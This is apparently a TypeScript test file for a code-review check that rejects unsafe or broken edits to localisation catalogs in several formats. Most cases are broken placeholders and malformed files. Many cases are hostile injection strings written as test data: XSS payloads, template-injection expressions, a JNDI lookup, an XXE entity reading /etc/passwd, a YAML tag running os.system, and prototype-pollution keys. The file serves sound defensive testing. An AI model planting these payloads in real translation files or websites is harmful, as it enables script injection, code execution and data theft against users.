import assert from 'node:assert/strict';
import { copyCatalog } from '../../src/review/checks/copy-catalog.js';
import { runChecks } from '../support/run-checks.js';

const folder = 'src/features/home/i18n';
const json = `{
  "title": "Home of {name}",
  "count": "{n, plural, one {# page} other {# pages}}",
  "rich": "Read <b>this</b>, or <a href=\\"/help\\">ask</a>.",
  "sex": "{g, select, female {She} other {They}} said",
  "plain": "Nothing here yet."
}
`;
const yaml = `en:
  title: "Home of %{name}"
  count:
    one: "%{count} page"
    other: "%{count} pages"
  plain: "Nothing here yet."
`;
const po = `msgid ""
msgstr ""
"Content-Type: text/plain; charset=UTF-8\\n"
"Plural-Forms: nplurals=2; plural=(n != 1);\\n"

msgid "Home of %s"
msgstr "Start von %s"

#, python-format
msgid "%(count)s page"
msgid_plural "%(count)s pages"
msgstr[0] "%(count)s Seite"
msgstr[1] "%(count)s Seiten"
`;
const ftl = `title = Home of { $name }
count = { $n ->
    [one] { $n } page
   *[other] { $n } pages
}
`;
const strings = `"title" = "Home of %@";
"count" = "%1$d of %2$d pages";
`;
const properties = 'title=Home of {0}\nplain=Nothing here yet.\n';
const xml = `<resources>
  <string name="title">Home of %1$s</string>
  <string name="plain">Nothing here yet.</string>
</resources>
`;

interface Attack {
  readonly path: string;
  readonly before: string;
  readonly after: string;
}
const on =
  (name: string, before: string) =>
  (from: string, to: string): Attack => {
    assert.ok(before.includes(from), from);
    return { path: `${folder}/${name}`, before, after: before.replace(from, to) };
  };
const inJson = on('en.json', json);
const inYaml = on('en.yml', yaml);
const inPo = on('de.po', po);
const inFtl = on('en.ftl', ftl);
const inStrings = on('en.lproj/Localizable.strings', strings);
const inProperties = on('messages_en.properties', properties);
const inXml = on('res/values/strings.xml', xml);

const withText = (text: string): Attack => inJson('"plain":', `"more": ${JSON.stringify(text)},\n  "plain":`);

/** A text that a program cannot use, shows wrong or runs, or a file that it cannot read. */
const attacks: Readonly<Record<string, Attack>> = {
  'JSON: a placeholder less': inJson('{name}', 'you'),
  'JSON: a placeholder more': inJson('{name}', '{name} {team}'),
  'JSON: a placeholder renamed': inJson('{name}', '{Name}'),
  'JSON: a placeholder translated': inJson('{name}', '{nom}'),
  'JSON: a placeholder by a letter that looks like it': inJson('{name}', '{nаme}'),
  'JSON: a placeholder with a blank in its name': inJson('{name}', '{na me}'),
  'JSON: a placeholder that is left open': inJson('{name}', '{name'),
  'JSON: a placeholder that closes alone': inJson('{name}', 'name}'),
  'JSON: a placeholder of another kind': inJson('{name}', '{{name}}'),
  'JSON: a placeholder in quotation marks, which hide it': inJson('{name}', "'{name}'"),
  'JSON: a plural without its other': inJson(' other {# pages}', ''),
  'JSON: a plural of nothing': inJson('one {# page} other {# pages}', ''),
  'JSON: a plural twice the same': inJson('one {# page}', 'one {# page} one {# side}'),
  'JSON: a plural of a word that is none': inJson('one {# page}', 'uno {# page}'),
  'JSON: a plural of another number': inJson('{n, plural', '{m, plural'),
  'JSON: a plural that became a choice': inJson('{n, plural', '{n, select'),
  'JSON: a plural without its number': inJson('{n, plural, one {# page} other {# pages}}', 'pages'),
  'JSON: a plural that is left open': inJson('{# pages}}', '{# pages}'),
  'JSON: a choice without its other': inJson(' other {They}', ''),
  'JSON: a choice less': inJson('female {She} ', ''),
  'JSON: a tag less': inJson('<b>this</b>', 'this'),
  'JSON: a tag that is left open': inJson('<b>this</b>', '<b>this'),
  'JSON: a tag of another kind': inJson('<b>this</b>', '<i>this</i>'),
  'JSON: a script': inJson('Nothing here yet.', '<script>fetch(1)</script>'),
  'JSON: a script in another case': inJson('Nothing here yet.', '<ScRiPt>fetch(1)</ScRiPt>'),
  'JSON: a picture that runs': inJson('Nothing here yet.', '<img src=x onerror=alert(1)>'),
  'JSON: a frame': inJson('Nothing here yet.', "<iframe src='https://x.io'></iframe>"),
  'JSON: an address that runs': inJson('/help', 'javascript:alert(1)'),
  'JSON: a new text with a script': inJson('"plain":', '"more": "<script src=x></script>",\n  "plain":'),
  'JSON: a new text with a picture that runs': inJson(
    '"plain":',
    '"more": "<img src=x onerror=alert(1)>",\n  "plain":',
  ),
  'JSON: a new text with a frame': inJson('"plain":', '"more": "<iframe src=x></iframe>",\n  "plain":'),
  'JSON: a new text with an address that runs': inJson(
    '"plain":',
    '"more": "<a href=\\"javascript:alert(1)\\">ask</a>",\n  "plain":',
  ),
  'JSON: a new text with an address that is a page': inJson('"plain":', '"more": "data:text/html,x",\n  "plain":'),
  'JSON: a new text with a tag that runs without blanks': inJson(
    '"plain":',
    '"more": "<svg/onload=alert(1)>",\n  "plain":',
  ),
  'YAML: a new text with a script': inYaml('  plain:', '  more: "<script>x</script>"\n  plain:'),
  'Android: a new text with a script': inXml(
    '  <string name="plain">',
    '  <string name="more">&lt;script>x&lt;/script></string>\n  <string name="plain">',
  ),
  'JSON: a new text with a form': withText('<form action="https://x.io"><input name=p></form>'),
  'JSON: a new text with an object': withText('<object data="x"></object>'),
  'JSON: a new text with a style for all': withText('<style>*{display:none}</style>'),
  'JSON: a new text with a style that loads': withText('<p style="background:url(//x.io)">x</p>'),
  'JSON: a new text with a style over all': withText('<p style="position: fixed">x</p>'),
  'JSON: a new text with another style sheet': withText('<link rel=stylesheet href=//x.io>'),
  'JSON: a new text with a page in the page': withText('<portal src=x>'),
  'JSON: a new text with a picture from elsewhere': withText('<img src="https://x.io/x.gif">'),
  'JSON: a new text with an address that runs, with a tab': withText('<a href="java\tscript:x">a</a>'),
  'JSON: a new text with an address that runs, by a number': withText('<a href="&#106;avascript:x">a</a>'),
  'JSON: a new text with an address that runs, by a number of sixteens': withText('<a href="&#x6a;avascript:x">a</a>'),
  'JSON: a new text with an address that runs, by a colon in words': withText(
    '<a href="javascript&colon;alert(1)">a</a>',
  ),
  'JSON: a new text with an address that runs, in Markdown': withText('[a](vb&Tab;script:x)'),
  'JSON: a new text with a picture that is a page': withText('<img src="data:image/svg+xml;base64,PHN2Zz4=">'),
  'JSON: a new text with a part of a picture from elsewhere': withText(
    '<svg><use href="data:image/svg+xml,x#x"></use></svg>',
  ),
  'JSON: a new text with an address of a blob': withText('<a href="blob:https://x/1">x</a>'),
  'JSON: a new text with an expression of Angular': withText("{{constructor.constructor('alert(1)')()}}"),
  'JSON: a new text with an expression of Vue': withText('{{ _c.constructor(1)() }}'),
  'JSON: a new text with an expression of Jinja': withText('{{ config.__class__ }}'),
  'JSON: a new text with a tag of Jinja': withText('{% include "/etc/passwd" %}'),
  'JSON: a new text with code of ERB': withText('<%= system(1) %>'),
  'JSON: a new text with code of Ruby': withText('#{system(1)}'),
  'JSON: a new text with code of a shell in Ruby': withText('#{`id`}'),
  'JSON: a new text with an expression of JavaScript': withText('${process.env.SECRET}'),
  'JSON: a new text with a call in JavaScript': withText('${fetch(1)}'),
  'JSON: a new text with a look-up of Java': withText('${jndi:ldap://x.io/a}'),
  'JSON: a new text with code of PHP': withText('<?php system(1); ?>'),
  'JSON: a new text with short code of PHP': withText('<?= $secret ?>'),
  'JSON: a new text with an order to the server': withText('<!--#exec cmd="id" -->'),
  'JSON: a new text with letters turned round': withText('Pay \u202e001\u202c now'),
  'JSON: a new text with letters turned the other way': withText('Pay \u202d001\u202c now'),
  'JSON: a new text with something invisible in a word': withText('pay\u200bpal'),
  'JSON: a new text with orders that no reader sees': withText('Pay\u{e0061}\u{e0062}'),
  'JSON: a new text that turns what follows': withText('Pay \u2067now'),
  'JSON: a new text with a sign of control': withText('Pay\u0000 now'),
  'JSON: a new text of nothing that is seen': withText('\u200b'),
  'JSON: a new text with a style that loads, by a number': withText('<p style="background:u&#114;l(//x.io)">x</p>'),
  'JSON: a new text with a style that loads, by an escape': withText('<p style="background:\\75rl(//x.io)">x</p>'),
  'JSON: a new text with a style that loads, by a comment': withText('<p style="background:u\\72/**/ l(//x.io)">x</p>'),
  'JSON: a new text with a style that loads, by a set': withText(
    `<p style="background-image:image-set('//x.io' 1x)">x</p>`,
  ),
  'JSON: a new text with a button that sends': withText('<button formaction="https://x.io">Go</button>'),
  'JSON: a new text with a poster': withText('<video poster=https://x.io/a></video>'),
  'JSON: a new text with a table on a picture': withText("<table background='//x.io/a'></table>"),
  'JSON: a new text with a picture from elsewhere, by an escape': withText('<img src="&#x2f;&sol;x.io/x.gif">'),
  'JSON: a new text with a picture from elsewhere, by other strokes': withText('<img src="\\\\x.io/x.gif">'),
  'JSON: a new text with a drawing from elsewhere': withText('<svg><use href="https://x.io/a#x"></use></svg>'),
  'JSON: a new text that gets out of its attribute': withText('" onmouseover="alert(1)'),
  'JSON: a new text that gets out of its attribute, without blanks': withText("'onclick='alert(1)"),
  'JSON: a new text with a handler behind a tag in a title': withText('<p title=">" onclick=alert(1)>x</p>'),
  'JSON: a new text with a handler of Vue': withText('<p @click="alert(1)">x</p>'),
  'JSON: a new text with a handler of Alpine': withText('<p x-init="fetch(1)">x</p>'),
  'JSON: a new text with a handler of htmx': withText('<p class="a" hx-get="//x.io" hx-trigger="load">x</p>'),
  'JSON: a new text with a handler of Angular': withText('<p (click)="alert(1)">x</p>'),
  'JSON: a new text with a handler of Svelte': withText('<p on:click={alert}>x</p>'),
  'JSON: a new text with a user in an address': withText('Go to https://bank.com@evil.io/'),
  'JSON: a new text with an address that looks like another': withText('Go to https://\u0430pple.com'),
  'JSON: a changed text with code of ERB': inJson('Nothing here yet.', '<%= system(1) %>'),
  'JSON: a key of every object': inJson('"plain":', '"__proto__": { "x": "1" },\n  "plain":'),
  'JSON: a key that makes objects': inJson('"plain":', '"constructor": { "prototype": "1" },\n  "plain":'),
  'JSON: a key with a script': inJson('"plain":', '"<script>x</script>": "x",\n  "plain":'),
  'YAML: a new text with code of ERB': inYaml('  plain:', '  more: "<%= `id` %>"\n  plain:'),
  'YAML: a tag that makes code': inYaml('"Nothing here yet."', '!!js/function "function () {}"'),
  'YAML: a tag that runs': inYaml('"Nothing here yet."', '!!python/object/apply:os.system ["id"]'),
  'Android: an entity that is another file': {
    path: `${folder}/res/values/strings.xml`,
    before: xml,
    after: `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n${xml.replace('Nothing', '&x;')}`,
  },
  'Android: another file included': inXml('<string name="plain">', '<xi:include href="x" />\n  <string name="plain">'),
  'po: a width that is filled in': inPo('Start von %s', 'Start von %*s'),
  'JSON: a list for a text': inJson('"Nothing here yet."', '["Nothing", "here"]'),
  'JSON: a number for a text': inJson('"Nothing here yet."', '1'),
  'JSON: nothing for a text': inJson('"Nothing here yet."', 'null'),
  'JSON: a branch for a text': inJson('"Nothing here yet."', '{ "a": "Nothing" }'),
  'JSON: an empty text': inJson('Nothing here yet.', ''),
  'JSON: a key twice': inJson('"plain":', '"title": "Home of {name}",\n  "plain":'),
  'JSON: a key twice by escapes': inJson('"plain":', '"titl\\u0065": "Home of {name}",\n  "plain":'),
  'JSON: a comma too many': inJson('yet."\n', 'yet.",\n'),
  'JSON: a comment': inJson('{\n', '{\n  // Ours\n'),
  'JSON: a quotation mark too few': inJson('yet."', 'yet.'),
  'JSON: a line in a text': inJson('Nothing here', 'Nothing\nhere'),
  'JSON: something behind it': { path: `${folder}/en.json`, before: json, after: `${json}x` },
  'JSON: two of them': { path: `${folder}/en.json`, before: json, after: json + json },
  'JSON: nothing': { path: `${folder}/en.json`, before: json, after: '' },
  'JSON: a list': { path: `${folder}/en.json`, before: json, after: '[]' },
  'JSON: marks of a conflict': inJson('{\n', '{\n<<<<<<< HEAD\n'),
  'YAML: a placeholder less': inYaml('%{name}', 'you'),
  'YAML: a placeholder renamed': inYaml('%{name}', '%{Name}'),
  'YAML: a placeholder of another kind': inYaml('%{name}', '{name}'),
  'YAML: a key twice': inYaml('  plain:', '  title: "Home of %{name}"\n  plain:'),
  'YAML: a tab': inYaml('  plain:', '\tplain:'),
  'YAML: an alias of nothing': inYaml('"Nothing here yet."', '*nothing'),
  'YAML: a tag that makes an object': inYaml('"Nothing here yet."', '!ruby/object:Gem::Installer {}'),
  'YAML: a second document': inYaml('  plain:', '---\nen:\n  plain:'),
  'YAML: a word that some take for false': inYaml('"Nothing here yet."', 'no'),
  'YAML: a number': inYaml('"Nothing here yet."', '1_000'),
  'YAML: a list': inYaml('"Nothing here yet."', '[Nothing]'),
  'po: a placeholder less': inPo('Start von %s', 'Start'),
  'po: a placeholder more': inPo('Start von %s', 'Start von %s %s'),
  'po: a placeholder of another kind': inPo('Start von %s', 'Start von %d'),
  'po: a named placeholder renamed': inPo('"%(count)s Seiten"', '"%(anzahl)s Seiten"'),
  'po: a form less': inPo('msgstr[1] "%(count)s Seiten"\n', ''),
  'po: a quotation mark too few': inPo('von %s"', 'von %s'),
  'po: one message twice': inPo('#, python-format', 'msgid "Home of %s"\nmsgstr "Heim von %s"\n\n#, python-format'),
  'Fluent: a placeholder less': inFtl('{ $name }', 'you'),
  'Fluent: a placeholder renamed': inFtl('{ $name }', '{ $nom }'),
  'Fluent: no default': inFtl('*[other]', '[other]'),
  'Fluent: a brace left open': inFtl('{ $name }', '{ $name'),
  'Fluent: a message of nothing': inFtl('{ $name }', '{ other }'),
  'Apple: a placeholder less': inStrings('%@', 'you'),
  'Apple: a placeholder of another kind': inStrings('%@', '%d'),
  'Apple: one of two places': inStrings('%1$d of %2$d', '%1$d of %1$d'),
  'Apple: a semicolon too few': inStrings('%@";', '%@"'),
  'Java: a placeholder less': inProperties('{0}', 'you'),
  'Java: another place': inProperties('{0}', '{1}'),
  'Java: a key twice': inProperties('plain=', 'title=Home of {0}\nplain='),
  'Android: a placeholder less': inXml('%1$s', 'you'),
  'Android: a placeholder of another kind': inXml('%1$s', '%1$d'),
  'Android: a name twice': inXml(
    '<string name="plain">',
    '<string name="title">Home of %1$s</string>\n  <string name="plain">',
  ),
  'Android: a tag left open': inXml('yet.</string>', 'yet.'),
  'Android: a sign that XML reads': inXml('Nothing here', 'Nothing & here'),
};

describe('a catalog', () => {
  for (const [what, { path, before, after }] of Object.entries(attacks))
    it(`is not passed with ${what}`, async () =>
      assert.notDeepEqual(await runChecks([copyCatalog], { base: { [path]: before }, head: { [path]: after } }), []));

  it('is passed where code of that kind was there before', async () => {
    const path = `${folder}/en.json`;
    const text = (words: string): string => JSON.stringify({ help: `<a href="javascript:help()">${words}</a>` });
    const [base, head] = [{ [path]: text('Ask') }, { [path]: text('Ask us') }];
    assert.deepEqual(await runChecks([copyCatalog], { base, head }), []);
  });

  it('says of what hides which sign it is, and of a key why it has to be another', async () => {
    const messagesOf = async ({ path, before, after }: Attack): Promise<readonly string[]> =>
      (await runChecks([copyCatalog], { base: { [path]: before }, head: { [path]: after } })).map(
        (each) => each.message,
      );
    assert.deepEqual(await messagesOf(withText('pay\u200bpal')), [
      '“more” has a sign in it that nobody sees, U+200B: readers are shown something else than what stands there, and programs and AI read it all the same. Such signs come along with copied text: type it anew by hand.',
    ]);
    assert.deepEqual(await messagesOf(withText('Go to https://\u0430pple.com')), [
      '“more” shows readers something else than what stands there: "https://\\u0430pple.com". Write it anew by hand.',
    ]);
    const [message = ''] = await messagesOf(inJson('"plain":', '"__proto__": { "x": "1" },\n  "plain":'));
    assert.match(message, /has “__proto__” for a key, .* Give it another name\.$/);
  });

  it('is passed where the texts alone are others', async () => {
    for (const { path, before, after } of [
      inJson('Nothing here yet.', 'Nothing to see yet, sorry.'),
      inJson('Home of {name}', '{name}, this is your home'),
      inJson('one {# page}', 'one {one page}'),
      inJson('Nothing here yet.', 'Learn JavaScript: the basics, and turn notifications on = off.'),
      inYaml('Nothing here yet.', 'Nothing to see: yet'),
      inYaml('Nothing here yet.', 'No'),
      withText('{{ count, number(minimumFractionDigits: 2) }} of {{total}}, for <b>{name}</b>'),
      withText('<%= count %> of <%- total.all %>, from Ada <%{address}>'),
      withText('See <a href="https://x.io/a(b)?c=1&d=2">it</a> or [ask](mailto:a@b.io), a <link>link</link>.'),
      withText('<span style="color: red">Sale</span> ${price} #{id} $t(common.save) – 5 < 6 % 2'),
      withText('Straße\u00ad n\u200b, می\u200cخواهم, 👩\u200d🚀, \u2067عربي\u2069, https://пример.рф/a'),
      withText(
        '<a href="{url}" target=_blank rel="noopener" title="Ask &amp; read" data-track="ask" aria-label=\'Ask\'>ask</a> <br/> a < b',
      ),
      withText(
        '<p style="color: red; margin:0 /* \\41 */" lang=en dir="ltr" xml:lang="en">x</p>, <Link to="/a">a</Link>',
      ),
      withText(
        'See https://medium.com/@ada, mailto:ada@x.io, “on = off”, "online=1" and <b>it\'s on</b> &#x110000; &nbsp;',
      ),
      withText('<img src="/a.png" alt="a"> and <img src="data:image/png;base64,AAAA">'),
      inPo('Start von %s', '%s hat einen Start'),
      inFtl('Home of', 'The home of'),
      inStrings('%1$d of %2$d', '%2$d has %1$d of its'),
      inProperties('Nothing here yet.', 'Nothing to see yet.'),
      inXml('Nothing here', 'Nothing to see'),
    ])
      assert.deepEqual(
        await runChecks([copyCatalog], { base: { [path]: before }, head: { [path]: after } }),
        [],
        after,
      );
  });
});
